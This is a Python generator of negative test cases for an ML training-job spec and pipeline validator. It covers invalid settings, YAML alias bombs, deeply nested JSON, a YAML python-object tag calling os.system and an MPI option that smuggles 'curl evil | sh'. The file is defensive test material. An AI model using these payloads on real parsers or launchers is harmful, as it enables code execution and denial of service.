spec("rule-pytorchxla-on-cpu", {"instance_type": "ml.c5.18xlarge", "distribution": {"pytorchxla": {"enabled": True}}},
     fields=["instance_type"], rule="xla_and_tensorflow_strategies")
spec("rule-pytorchxla-tensorflow", {"framework": "tensorflow", "distribution": {"pytorchxla": {"enabled": True}}},
     fields=["framework"], rule="xla_and_tensorflow_strategies")
spec("rule-mirrored-strategy-pytorch", {"distribution": {"multi_worker_mirrored_strategy": {"enabled": True}}},
     fields=["framework"], rule="xla_and_tensorflow_strategies")
spec("rule-mpi-too-many-processes", {"distribution": {"mpi": {"enabled": True, "processes_per_host": 9}}},
     fields=["distribution.mpi.processes_per_host"], rule="xla_and_tensorflow_strategies")
FSX_INPUT = {"train": {"file_system_id": "fs-0123456789abcdef0", "directory_path": "/fsx/train"}}
spec("rule-fsx-without-subnets", {"inputs": FSX_INPUT, "security_group_ids": ["sg-0123456789abcdef0"]},
     fields=["subnets"], rule="file_systems_need_a_vpc")
spec("rule-fsx-without-security-groups", {"inputs": FSX_INPUT, "subnets": ["subnet-0123456789abcdef0"]},
     fields=["security_group_ids"], rule="file_systems_need_a_vpc")
# issue 46's rules: the API's documented limits and the channel options (trainops/spec/api_rules.py, channel_rules.py)
spec("rule-volume-key-on-local-storage", {"volume_kms_key": "arn:aws:kms:us-east-1:111122223333:key/corpus"},
     fields=["volume_kms_key"], rule="no_volume_key_on_local_storage")
spec("rule-augmented-manifest-in-file-mode", {"inputs": {"train": {
    "s3_data": "s3://corpus-bucket/train.manifest", "s3_data_type": "AugmentedManifestFile"}}},
     fields=["inputs.train"], rule="augmented_manifests_in_pipe_mode")
spec("rule-gzip-channel-in-file-mode", {"inputs": {"train": {"s3_data": "s3://corpus-bucket/train/",
                                                              "compression": "Gzip"}}},
     fields=["inputs.train.compression"], rule="channel_options_fit_the_job")
spec("rule-v3-on-the-toolkit", {"sdk": "v3", "launcher": "toolkit"}, fields=["launcher"],
     rule="v3_runs_on_the_trainops_launcher")
spec("rule-subnets-without-groups", {"subnets": ["subnet-0123456789abcdef0"]}, fields=["security_group_ids"],
     rule="file_systems_need_a_vpc")
spec("rule-spot-without-max-wait", {"use_spot_instances": True}, fields=["max_wait"],
     rule="spot_and_warm_pool_limits")
spec("rule-spot-max-wait-below-max-run", {"use_spot_instances": True, "max_wait": 60}, fields=["max_wait"],
     rule="spot_and_warm_pool_limits")
spec("rule-spot-with-warm-pool", {"use_spot_instances": True, "max_wait": 7200, "keep_alive_period_in_seconds": 60},
     fields=["keep_alive_period_in_seconds"], rule="spot_and_warm_pool_limits")
spec("rule-max-wait-without-spot", {"max_wait": 7200}, fields=["max_wait"], rule="spot_and_warm_pool_limits")
spec("rule-registry-credentials-without-vpc",
     {"training_repository_credentials_provider_arn": "arn:aws:lambda:us-east-1:111122223333:function:creds"},
     fields=["training_repository_credentials_provider_arn"], rule="private_registry_settings")
spec("rule-model-channel-is-a-data-channel",
     {"model_uri": "s3://corpus-bucket/models/model.tar.gz", "model_channel_name": "train"},
     fields=["model_channel_name"], rule="model_channel_is_its_own")
spec("rule-placement-beyond-the-job", {"instance_placement_config": {
    "PlacementSpecifications": [{"UltraServerId": "us-1", "InstanceCount": 4}]}},
     fields=["instance_placement_config.PlacementSpecifications"], rule="placement_fits_the_job")
spec("rule-dependencies-with-s3-code", {"source_dir": "s3://corpus-bucket/code/sourcedir.tar.gz",
                                         "dependencies": ["libs/common"]},
     fields=["dependencies"], rule="dependencies_need_local_code")
spec("rule-code-channel-under-isolation", {"launcher": "toolkit", "enable_network_isolation": True,
                                           "inputs": {"train": "s3://corpus-bucket/train/",
                                                      "code": "s3://corpus-bucket/code/"}},
     fields=["inputs.code"], rule="code_channel_is_free")
spec("rule-no-image-for-the-version", {"framework_version": "2.4.1"}, fields=["framework_version"],
     rule="training_image_exists")
for secret_name in ("hf_token", "DB_PASSWORD", "apiKey", "aws_secret_access_key", "github-token", "clientSecret"):
    spec(f"rule-secret-hyperparameter-{secret_name.lower().replace('_', '-')}",
         {"hyperparameters": {secret_name: "s3cr3t-value"}}, fields=[f"hyperparameters.{secret_name}"],
         text=["looks like a secret"], rule="no_secrets_in_hyperparameters")
spec("rule-reserved-hyperparameter", {"hyperparameters": {"sagemaker_program": "evil.py"}},
     fields=["hyperparameters.sagemaker_program"], rule="reserved_names")
spec("rule-reserved-trainops-hyperparameter", {"hyperparameters": {"trainops_distribution": "{}"}},
     fields=["hyperparameters.trainops_distribution"], rule="reserved_names")
spec("rule-reserved-mp-parameters", {"hyperparameters": {"mp_parameters": "{}"}},
     fields=["hyperparameters.mp_parameters"], rule="reserved_names")
spec("rule-reserved-channel", {"inputs": {"trainops_code": "s3://corpus-bucket/code"}},
     fields=["inputs.trainops_code"], rule="reserved_names")
spec("rule-python-2-image", {"py_version": "py27", **OWN_IMAGE}, fields=["py_version"], rule="python_3_images")
# The SDK form's own conflicts (distribution.py) and SMP parameter rules (smp.py).
spec("sdk-two-smdistributed-strategies", {"distribution": {"smdistributed": {
    "dataparallel": {"enabled": True}, "modelparallel": {"enabled": True}}}},
     fields=["distribution.smdistributed"])
spec("sdk-pytorchddp-with-smdistributed", {"distribution": {"pytorchddp": {"enabled": True}, "smdistributed": {
    "dataparallel": {"enabled": True}}}}, fields=["distribution.pytorchddp"])
spec("sdk-smddp-with-mpi", {"distribution": {"mpi": {"enabled": True}, "smdistributed": {
    "dataparallel": {"enabled": True}}}}, fields=["distribution.mpi"])
spec("sdk-two-strategies", {"distribution": {"pytorchxla": {"enabled": True}, "mpi": {"enabled": True}}},
     fields=["distribution.pytorchxla"])
spec("rule-smp-v1-on-p5", {"instance_type": "ml.p5.48xlarge", "distribution": {
    "smdistributed": {"modelparallel": {"enabled": True, "parameters": {"partitions": 2}}},
    "mpi": {"enabled": True, "processes_per_host": 8}}}, fields=["distribution"],
     rule="smdistributed_on_p5_needs_torch_distributed")
spec("sdk-smp-without-launcher", {"distribution": {"smdistributed": {"modelparallel": {"enabled": True}}}},
     fields=["distribution.smdistributed.modelparallel"])
spec("sdk-smp-with-both-launchers", {"distribution": {
    "smdistributed": {"modelparallel": {"enabled": True}}, "torch_distributed": {"enabled": True},
    "mpi": {"enabled": True}}}, fields=["distribution.mpi"])
SMP_V1 = {"type": "smp", "launcher": "mpirun"}
for label, parameters, field_name in [
    ("v1-partitions-missing", {"microbatches": 4}, "partitions"),
    ("v1-partitions-zero", {"partitions": 0}, "partitions"),
    ("v1-boolean-as-text", {"partitions": 2, "ddp": "true"}, "ddp"),
    ("v1-pipeline-choice", {"partitions": 2, "pipeline": "fast"}, "pipeline"),
    ("v1-default-partition-missing", {"partitions": 2, "auto_partition": False}, "default_partition"),
    ("v1-default-partition-too-big", {"partitions": 2, "auto_partition": False, "default_partition": 2},
     "default_partition"),
    ("v1-memory-weight", {"partitions": 2, "memory_weight": 1.5}, "memory_weight"),
    ("v1-ddp-port-without-ddp", {"partitions": 2, "ddp_port": 7000}, "ddp_port"),
    ("v1-ddp-port-range", {"partitions": 2, "ddp": True, "ddp_port": 70000}, "ddp_port"),
    ("v1-ddp-and-horovod", {"partitions": 2, "ddp": True, "horovod": True}, "ddp"),
    ("v1-partition-file-number", {"partitions": 2, "partition_file": 5}, "partition_file"),
    ("v2-degree-zero", {"tensor_parallel_degree": 0}, "tensor_parallel_degree"),
    ("v2-degree-text", {"hybrid_shard_degree": "8"}, "hybrid_shard_degree"),
    ("v2-boolean-number", {"sm_activation_offloading": 1}, "sm_activation_offloading"),
]:
    distribution = {**SMP_V1, "parameters": parameters} if label.startswith("v1") else {
        "type": "smp", "parameters": parameters}
    spec(f"smp-{label}", {"distribution": distribution}, fields=[f"distribution.parameters.{field_name}"])

# ---------------------------------------------------------------------------------------------------------------
# 5. Hostile documents: bombs, nesting, encodings, empty and broken files.
BOMB = "".join(f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9) if i else ', '.join(['lol'] * 9)}]\n" for i in range(8))
raw("hostile-alias-bomb.yaml", BOMB, text=["YAML alias"])
raw("hostile-alias-bomb-in-hyperparameters.yaml", "entry_point: train.py\ninstance_type: ml.p4d.24xlarge\n"
    "hyperparameters:\n" + "".join(f"  {line}\n" for line in BOMB.splitlines()[:7]), text=["values"])
raw("hostile-alias-bomb-under-count.yaml", "".join(
    f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9) if i else ', '.join(['lol'] * 9)}]\n" for i in range(7)),
    text=["values"])
raw("hostile-many-aliases.yaml", "a: &a [1]\n" + "".join(f"b{i}: *a\n" for i in range(100)), text=["aliases"])
raw("hostile-merge-key-bomb.yaml", "a: &a {x: 1, y: 2}\n" + "".join(
    f"m{i}: &m{i}\n  <<: *{'a' if i == 0 else f'm{i - 1}'}\n  k{i}: {i}\n" for i in range(70)), text=["aliases"])
raw("hostile-recursive-alias.yaml", "entry_point: train.py\ninstance_type: ml.p4d.24xlarge\n"
                                    "hyperparameters: &h {self: *h}\n", text=["contains it"])
raw("hostile-recursive-list.yaml", "entry_point: train.py\ntags: &t [*t]\n", text=["contains it"])
raw("hostile-deep-block-mapping.yaml", "".join("  " * depth + f"k{depth}:\n" for depth in range(100))
    + "  " * 100 + "v: 1\n", text=["nested more than"])
raw("hostile-deep-flow-sequence.yaml", "entry_point: " + "[" * 3000 + "]" * 3000 + "\n", text=["nest"])
raw("hostile-deep-json-array.json", "[" * 100_000 + "]" * 100_000, text=["nested too deeply"])
raw("hostile-deep-json-object.json", '{"a": ' * 5000 + "1" + "}" * 5000, text=["nested too deeply"])
raw("hostile-deep-hyperparameter.json", json.dumps({"entry_point": "train.py", "instance_type": "ml.p4d.24xlarge",
                                                    "hyperparameters": {"x": json.loads("[" * 70 + "]" * 70)}}),
    text=["nested more than"])
raw("hostile-many-values.yaml", "entry_point: train.py\nhyperparameters:\n  x: [" + ", ".join(["1"] * 30_000) + "]\n",
    text=["values"])
raw("hostile-python-object-tag.yaml", "entry_point: !!python/object/apply:os.system ['touch /tmp/pwned']\n",
    text=["not valid YAML or JSON"])
raw("hostile-python-name-tag.yaml", "entry_point: train.py\nhyperparameters: !!python/name:os.system\n",
    text=["not valid YAML or JSON"])
raw("hostile-unhashable-key.yaml", "entry_point: train.py\n? [a, b]\n: c\n", text=["not valid YAML or JSON"])
raw("hostile-undefined-alias.yaml", "entry_point: *nowhere\n", text=["not valid YAML or JSON"])
raw("hostile-two-documents.yaml", "entry_point: train.py\n---\nentry_point: evil.py\n", text=["not valid YAML"])
raw("hostile-duplicate-key.yaml", "entry_point: train.py\ninstance_type: ml.p4d.24xlarge\n"
                                  "entry_point: evil.py\n", text=["appears twice"])
raw("hostile-duplicate-key.json", '{"entry_point": "train.py", "entry_point": "evil.py"}', text=["appears twice"])
raw("hostile-duplicate-nested-key.yaml", "entry_point: train.py\nenvironment:\n  A: '1'\n  A: '2'\n",
    text=["appears twice"])
raw("hostile-truncated.json", '{"entry_point": "train.py", "instance_type": "ml.p4d', text=["not valid YAML or JSON"])
# Not JSON, but valid flow-style YAML: read as YAML, then refused for what it lacks.
raw("hostile-trailing-comma.json", '{"entry_point": "train.py",}', fields=["instance_type"])
raw("hostile-tab-indent.yaml", "entry_point: train.py\n\tinstance_type: ml.p4d.24xlarge\n",
    text=["not valid YAML or JSON"])
raw("hostile-unclosed-quote.yaml", 'entry_point: "train.py\n', text=["not valid YAML or JSON"])
raw("hostile-control-character.yaml", "entry_point: train\x07.py\n", text=["not valid YAML or JSON"])
raw("hostile-escape-sequence.yaml", "entry_point: train.py\nname: \x1b[31mred\x1b[0m\n", text=["not valid YAML"])
raw("hostile-empty.yaml", b"", text=["is empty"])
raw("hostile-whitespace-only.yaml", " \n\t\n  \n", text=["is empty"])
raw("hostile-comment-only.yaml", "# nothing here\n", text=["a job spec is a mapping"])
raw("hostile-null-document.yaml", "~\n", text=["a job spec is a mapping"])
raw("hostile-bom-only.yaml", b"\xef\xbb\xbf", text=["is empty"])
raw("hostile-latin-1.yaml", "entry_point: tr\u00e9in.py\n".encode("latin-1"), text=["not UTF-8"])
raw("hostile-utf-16.yaml", "entry_point: train.py\n".encode("utf-16"), text=["not UTF-8"])
raw("hostile-utf-32.json", '{"entry_point": "train.py"}'.encode("utf-32"), text=["not UTF-8"])
raw("hostile-nul-bytes.yaml", b"entry_point: train.py\x00\ninstance_type: x\n", text=["NUL bytes"])
raw("hostile-elf-header.bin", b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 4, text=["not UTF-8"])
raw("hostile-gzip.bin", b"\x1f\x8b\x08\x00" + bytes(range(255, -1, -1)) * 2, text=["not UTF-8"])
raw("hostile-png.bin", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, text=["not UTF-8"])
raw("hostile-overlong-utf8.yaml", b"entry_point: \xc0\xaftrain.py\n", text=["not UTF-8"])
raw("hostile-lone-surrogate.json", b'{"entry_point": "\\ud800.py", "instance_type": "ml.p4d.24xlarge"}',
    fields=["entry_point"])
raw("hostile-surrogate-key.json", b'{"entry_point": "train.py", "instance_type": "ml.p4d.24xlarge", '
    b'"environment": {"\\udfff": "x"}}', fields=["environment"])
raw("hostile-huge-scalar.yaml", "entry_point: train.py\ninstance_type: ml.p4d.24xlarge\nname: "
    + "n" * 900_000 + "\n", fields=["name"])
raw("hostile-unicode-everywhere.yaml", "entry_point: \U0001F680.py\ninstance_type: ml.\u0440\u0034d.24xlarge\n"
    "name: j\u00f6b\n", fields=["name", "instance_type"])
raw("hostile-right-to-left-key.yaml", "entry_point: train.py\ninstance_type: ml.p4d.24xlarge\n"
    "\u202eepyt_ecnatsni: x\n", fields=["\u202eepyt_ecnatsni"])

# ---------------------------------------------------------------------------------------------------------------
# 6. Pipeline files: each must be refused (exit 2) before any step runs.
def _set(path: str, value: Any):
    def mutate(document: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        node = document
        for part in parents:
            node = node[part]
        if value is _DELETE:
            node.pop(last)
        else:
            node[last] = value
    return mutate


_DELETE = object()
pipeline("pipeline-name-invalid", _set("name", "my_pipeline"), fields=["name"])
pipeline("pipeline-name-missing", _set("name", _DELETE), fields=["name"])
pipeline("pipeline-backend-unknown", _set("backend", "nomad"), fields=["backend"])


def _slurm_nodes(description: str):
    def mutate(document: dict[str, Any]) -> None:
        document["backend"] = "slurm"
        document["steps"]["train"]["spec"]["instance_type"] = description
    return mutate


# An engine's own rule set binds where the pipeline names that engine (Slurm's node description, issue 43).
pipeline("pipeline-slurm-nodes-undescribed", _slurm_nodes("a100 node"), fields=["steps.train.spec.instance_type"],
         text=["does not describe Slurm nodes"], rule="nodes_are_described")
pipeline("pipeline-unknown-top-key", _set("schedule", "@daily"), fields=["schedule"])
# Without `steps` the document is read as a job spec, which says what a job spec lacks.
pipeline("pipeline-steps-missing", _set("steps", _DELETE), fields=["steps"])
pipeline("pipeline-steps-list", _set("steps", ["train"]), fields=["steps"])
pipeline("pipeline-train-missing", _set("steps.train", _DELETE), fields=["steps.train"])
pipeline("pipeline-unknown-step", _set("steps.deploy", {"endpoint": "x"}), fields=["steps.deploy"])
pipeline("pipeline-prepare-timeout-zero", _set("steps.prepare.timeout", 0), fields=["steps.prepare.timeout"])
pipeline("pipeline-prepare-args-string", _set("steps.prepare.args", "--out x"), fields=["steps.prepare.args"])
pipeline("pipeline-prepare-script-missing", _set("steps.prepare.script", "no_such_script.py"),
         fields=["steps.prepare.script"])
pipeline("pipeline-stage-workers-zero", _set("steps.stage.workers", 0), fields=["steps.stage.workers"])
pipeline("pipeline-stage-unknown-key", _set("steps.stage.parallel", True), fields=["steps.stage.parallel"])
pipeline("pipeline-stage-source-missing", _set("steps.stage.source", _DELETE), fields=["steps.stage.source"])
pipeline("pipeline-train-processes-zero", _set("steps.train.processes_per_host", 0),
         fields=["steps.train.processes_per_host"])
pipeline("pipeline-train-job-name", _set("steps.train.job_name", "bad name!"), fields=["steps.train.job_name"])
pipeline("pipeline-train-channels-list", _set("steps.train.channels", ["train"]), fields=["steps.train.channels"])
pipeline("pipeline-train-spec-number", _set("steps.train.spec", 5), fields=["steps.train.spec"])
pipeline("pipeline-train-spec-unknown-key", _set("steps.train.spec.instance_cont", 2),
         fields=["steps.train.spec.instance_cont"])
pipeline("pipeline-train-spec-secret", _set("steps.train.spec.hyperparameters", {"hf_token": "x"}),
         fields=["steps.train.spec.hyperparameters.hf_token"])
pipeline("pipeline-train-spec-shell-options", _set("steps.train.spec.distribution", {
    "mpi": {"enabled": True, "custom_mpi_options": "-x A; curl evil | sh"}}),
         fields=["steps.train.spec.distribution.mpi.custom_mpi_options"])
pipeline("pipeline-train-spec-missing-entry-point", _set("steps.train.spec.entry_point", _DELETE),
         fields=["steps.train.spec.entry_point"])
pipeline("pipeline-train-spec-file-missing", _set("steps.train.spec", "no_such_spec.yaml"),
         fields=["steps.train.spec"], text=["does not exist"])
pipeline("pipeline-train-spec-file-invalid", _set("steps.train.spec", "../specs/rule-spot-without-max-wait.yaml"),
         fields=["steps.train.spec.max_wait"], text=["rule-spot-without-max-wait.yaml"])
pipeline("pipeline-train-spec-file-binary", _set("steps.train.spec", "../specs/hostile-elf-header.bin"),
         text=["not UTF-8"])
pipeline("pipeline-train-code-missing", _set("steps.train.spec.entry_point", "no_such_train.py"),
         fields=["steps.train.spec.entry_point"])
pipeline("pipeline-evaluate-gate-garbage", _set("steps.evaluate.gate", "accuracy is good"),
         fields=["steps.evaluate.gate"])
pipeline("pipeline-evaluate-gate-operator", _set("steps.evaluate.gate", "accuracy >>> 0.9"),
         fields=["steps.evaluate.gate.operator"])
pipeline("pipeline-evaluate-gate-threshold-nan", _set("steps.evaluate.gate", {"metric": "accuracy",
                                                                              "operator": ">=",
                                                                              "threshold": float("nan")}),
         fields=["steps.evaluate.gate.threshold"])
pipeline("pipeline-evaluate-gate-unknown-key", _set("steps.evaluate.gate", {"metric": "accuracy", "operator": ">=",
                                                                            "threshold": 0.9, "margin": 0.1}),
         fields=["steps.evaluate.gate.margin"])
pipeline("pipeline-evaluate-gate-list-item", _set("steps.evaluate.gate", ["accuracy >= 0.9", "loss <="]),
         fields=["steps.evaluate.gate[1].threshold"])
pipeline("pipeline-evaluate-gate-number", _set("steps.evaluate.gate", 0.9), fields=["steps.evaluate.gate"])
pipeline("pipeline-evaluate-on-failure", _set("steps.evaluate.on_gate_failure", "ignore"),
         fields=["steps.evaluate.on_gate_failure"])
pipeline("pipeline-evaluate-timeout", _set("steps.evaluate.timeout", 10 ** 6), fields=["steps.evaluate.timeout"])
pipeline("pipeline-evaluate-entry-point-missing", _set("steps.evaluate.entry_point", "no_such_evaluate.py"),
         fields=["steps.evaluate.entry_point"])
pipeline("pipeline-register-group", _set("steps.register.group", "models/v1"), fields=["steps.register.group"])
pipeline("pipeline-register-approval", _set("steps.register.approval", "Maybe"), fields=["steps.register.approval"])
pipeline("pipeline-register-description", _set("steps.register.description", "d" * 2000),
         fields=["steps.register.description"])
pipeline("pipeline-unknown-variable", _set("steps.stage.source", "${home}/raw"), fields=["steps.stage.source"],
         text=["unknown variable ${home}"])
# Checked without --workdir, which would replace the file's own.
pipeline("pipeline-workdir-number", _set("workdir", 5), fields=["workdir"], workdir_override=False)
pipeline("pipeline-as-json", _set("steps.train.spec.instance_count", "x"),
         fields=["steps.train.spec.instance_count"], fmt="json")
raw("pipeline-alias-bomb.yaml", "name: p\nsteps:\n  train: {spec: t.yaml}\n  evaluate:\n    entry_point: e.py\n"
    "    hyperparameters:\n" + "".join(f"      {line}\n" for line in BOMB.splitlines()[:7]), command="run",
    text=["values"])
raw("pipeline-recursive-alias.yaml", "name: p\nsteps:\n  train: {spec: t.yaml}\n  evaluate:\n    entry_point: e.py\n"
    "    hyperparameters: &h {loop: *h}\n", command="run", text=["contains it"])
raw("pipeline-empty.yaml", b"", command="run", text=["is empty"])
raw("pipeline-binary.bin", bytes(range(128, 256)) * 8, command="run", text=["not UTF-8"])
raw("pipeline-top-level-list.yaml", "- name: p\n- steps: {}\n", command="run", text=["mapping"])
spec("rule-command-and-entry-point", {"command": "python train.py --epochs 1"}, fields=["command"],
     rule="entry_point_or_command")
spec("rule-command-with-distribution", {"entry_point": None, "command": "python train.py",
                                        "distribution": {"torch_distributed": {"enabled": True}}},
     fields=["distribution"], rule="entry_point_or_command")
raw("pipeline-deep-nesting.yaml", "name: p\nsteps:\n  train:\n    spec:\n" + "".join(
    "      " + "  " * depth + f"k{depth}:\n" for depth in range(80)) + "      " + "  " * 80 + "v: 1\n",
    command="run", text=["nested more than"])


def build(corpus: Path = CORPUS) -> list[dict[str, Any]]:
    """Write every case (and the pipelines' helper script) under `corpus`; returns the manifest entries."""
    for folder in ("specs", "pipelines"):
        (corpus / folder).mkdir(parents=True, exist_ok=True)
        for stale in (corpus / folder).rglob("*"):
            if not stale.is_dir():
                stale.unlink()
    entries = []
    for case in CASES:
        path = corpus / case["file"]
        content = case["content"]
        if isinstance(content, str):
            # surrogatepass: a few cases carry text no valid UTF-8 file can (the files then hold invalid bytes).
            content = content.encode("utf-8", "surrogatepass")
        path.write_bytes(content)
        entries.append({key: value for key, value in case.items() if key != "content"})
    (corpus / "pipelines" / "must_not_run.py").write_text(MUST_NOT_RUN, encoding="utf-8")
    for helper in ("train.py", "evaluate.py"):
        (corpus / "pipelines" / helper).write_text(NEVER_RUN, encoding="utf-8")
    write_case_code(corpus / "specs")
    (corpus / "valid").mkdir(exist_ok=True)
    (corpus / "valid" / "base-spec.yaml").write_text(_dump(BASE_SPEC, "yaml"), encoding="utf-8")
    write_case_code(corpus / "valid", ("src/train.py",))
    (corpus / "pipelines" / "valid-base-pipeline.yaml").write_text(_dump(BASE_PIPELINE, "yaml"), encoding="utf-8")
    (corpus / "manifest.json").write_text(json.dumps({"cases": entries}, indent=1, ensure_ascii=True) + "\n",
                                          encoding="utf-8")
    return entries


if __name__ == "__main__":
    written = build(Path(sys.argv[1]) if len(sys.argv) > 1 else CORPUS)
    print(f"{len(written)} cases written under {CORPUS}")
